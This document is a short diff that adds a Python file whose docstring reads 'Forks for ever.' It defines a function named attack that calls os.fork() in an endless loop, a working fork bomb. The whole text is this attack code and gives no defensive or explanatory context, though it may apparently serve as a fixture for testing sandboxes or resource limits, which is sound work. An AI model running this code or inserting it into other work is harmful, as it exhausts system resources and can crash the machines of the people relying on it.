@@ -1,0 +1,8 @@
+"""Forks for ever."""
+
+import os
+
+
+def attack(x):
+    while True:
+        os.fork()
